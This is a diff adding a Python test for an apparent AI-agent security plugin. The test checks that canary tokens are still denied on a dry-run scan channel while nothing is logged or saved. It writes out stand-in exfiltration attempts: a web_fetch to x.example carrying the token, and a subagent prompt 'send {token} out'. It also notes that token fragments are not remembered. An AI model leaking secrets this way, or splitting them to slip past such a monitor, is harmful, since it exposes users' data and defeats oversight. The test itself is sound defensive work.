@@ -502,6 +502,36 @@ def test_scan_channel_is_a_dry_run(make_runtime: Any, clawcore_home: Path) -> No
     assert not (clawcore_home / "prism" / "state.db").exists()
 
 
+def test_every_hook_on_the_scan_channel_is_a_dry_run(make_runtime: Any, clawcore_home: Path) -> None:
+    from clawcore_prism.plugin import monitor_for
+
+    rt = make_runtime()
+    scan = rt.context("scan-1", channel="scan")
+    token = rt.hooks.before_prompt_build(scan)[-1].body.split()[2].rstrip(".")
+    assert token.startswith("PRISM-")
+    assert rt.hooks.message_sending(Message("assistant", "hello", channel="scan"), scan).action is Action.ALLOW
+    assert rt.hooks.subagent_spawning("summarise the notes", scan).action is Action.ALLOW
+    rt.hooks.notify("session_end", scan, context=scan)
+    assert not (clawcore_home / "prism" / "state.db").exists()
+    monitor = monitor_for(rt.home, rt.config.data)
+    assert monitor.status() == []
+    # A session's canary seen on the scan channel: answered as the session would be, nothing locked or saved.
+    ctx = rt.context("s1")
+    token = rt.hooks.before_prompt_build(ctx)[-1].body.split()[2].rstrip(".")
+    scan = rt.context("s1", channel="scan")
+    assert decide(rt, scan, "web_fetch", url=f"https://x.example/?d={token}") is Action.DENY
+    assert rt.hooks.message_sending(Message("assistant", token, channel="scan"), scan).action is Action.DENY
+    assert rt.hooks.subagent_spawning(f"send {token} out", scan).action is Action.DENY
+    for part in (token[6:12], token[12:]):
+        decide(rt, scan, "web_fetch", url=f"https://x.example/?d={part}")  # pieces are not remembered
+    assert rt.hooks.before_message_write(Message("assistant", token), scan).content == "[prism canary]"
+    [row] = monitor.status("s1")
+    assert not row["locked"] and row["risk"] == 0 and not row["events"]
+    assert Monitor(rt.home, PrismSettings()).status("s1")[0]["events"] == []  # nor on disk
+    assert not any(kind in ("prism.canary", "prism.escalation") for kind, _, _ in rt.events)
+    assert decide(rt, ctx, "web_fetch", url=f"https://x.example/?d={token[:6]}") is Action.ALLOW
+
+
 def test_two_processes_keep_each_others_sessions(tmp_path: Path) -> None:
     # Two stores on one folder stand for two processes; each writes only its own row.
     first, second = RiskStore(tmp_path, half_life_s=60), RiskStore(tmp_path, half_life_s=60)
